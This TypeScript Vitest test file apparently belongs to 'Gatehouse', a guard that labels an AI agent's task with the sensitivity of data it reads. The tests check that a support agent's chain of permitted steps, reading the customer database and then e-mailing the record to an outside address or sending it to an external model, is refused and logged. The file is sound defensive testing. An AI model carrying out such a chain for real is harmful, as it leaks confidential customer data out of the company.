import { afterAll, beforeAll, describe, expect, it } from "vitest";
import OpenAI from "openai";
import { storeTargets } from "../../tests/support/stores.js";
import { buildWorld, granted, OUTSIDE_ADDRESS, refusal, type World } from "./world.js";

const FROM_CUSTOMER_DB = "task label confidential (from data source customer-db via tool read_customer_db)";

/**
 * Exfiltration through a harmless-looking chain. Every step support-bot takes is one it is
 * allowed to take: it may read the customer database, it may send e-mail, it may use the
 * external model. Chained, they carry confidential customer data out of the company. Gatehouse
 * labels the task with everything it has read, and checks every outbound flow against that
 * label, so the chain is refused at the step where the data would leave — and the refusal says
 * which flow and where its label came from.
 */
describe.each(storeTargets)("story: exfiltration through a harmless-looking chain ($name)", (target) => {
  let world: World;
  beforeAll(async () => (world = await buildWorld(target)));
  afterAll(async () => world?.close());

  it("read_customer_db → send_email to an outside address is refused at send_email; nothing is mailed", async () => {
    const task = await world.support.sdk.openTask({ purpose: "answer a customer", reference: "ticket #812" });
    await granted(task, "read_customer_db");
    await granted(task, "send_email");
    const customer = await task.tools.invoke("read_customer_db", { id: "12345" });
    expect(customer.taskSensitivity).toBe("confidential");
    const mailed = world.tools.received.length;
    const mark = await world.mark();

    const error = await refusal(task.tools.invoke("send_email", { to: OUTSIDE_ADDRESS, subject: "export", body: JSON.stringify(customer.result) }));
    expect(error.status).toBe(403);
    expect(error.message).toContain(`flow refused: ${FROM_CUSTOMER_DB} may not go to egress tool send_email`);
    expect(world.tools.received.length).toBe(mailed);
    const [event] = await world.refusalsSince(mark);
    expect(event).toMatchObject({ action: "tool.invoke", resource: { name: "send_email" }, context: { taskId: task.id }, decision: { reasons: [error.message] } });
  });

  it("read_customer_db → the external model is refused before the model is called; the internal model may have it", async () => {
    const task = await world.support.sdk.openTask({ purpose: "summarise an account", reference: "customer 12345" });
    await granted(task, "read_customer_db");
    await task.tools.invoke("read_customer_db", { id: "12345" });
    const openai = new OpenAI({ baseURL: `${world.baseUrl}/v1`, apiKey: "signed-by-the-agent", fetch: task.fetch, maxRetries: 0 });
    const ask = (model: string) => openai.chat.completions.create({ model, messages: [{ role: "user", content: "Summarise the account you just read." }] });

    const error = await ask("external-llm").catch((e: unknown) => e);
    expect(error).toBeInstanceOf(OpenAI.PermissionDeniedError);
    expect((error as Error).message).toContain(`${FROM_CUSTOMER_DB} may not go to external model external-llm`);
    const internal = await ask("internal-llm");
    expect(internal.choices[0]?.message.content).toBeTruthy();
  });

  it("benign twin: the public catalogue → send_email goes out, and so does the external model", async () => {
    const task = await world.support.sdk.openTask({ purpose: "send a price list", reference: "ticket #813" });
    await granted(task, "public_catalog");
    await granted(task, "send_email");
    const catalogue = await task.tools.invoke("public_catalog", {});
    expect(catalogue.taskSensitivity).toBe("public");
    const sent = await task.tools.invoke("send_email", { to: "buyer@acme.example", subject: "Prices", body: JSON.stringify(catalogue.result.content) });
    expect(sent.result.structuredContent).toMatchObject({ sent: true });
    const openai = new OpenAI({ baseURL: `${world.baseUrl}/v1`, apiKey: "signed-by-the-agent", fetch: task.fetch, maxRetries: 0 });
    const answer = await openai.chat.completions.create({ model: "external-llm", messages: [{ role: "user", content: "Write a friendly cover note for a price list." }] });
    expect(answer.choices[0]?.message.content).toBeTruthy();
  });
});
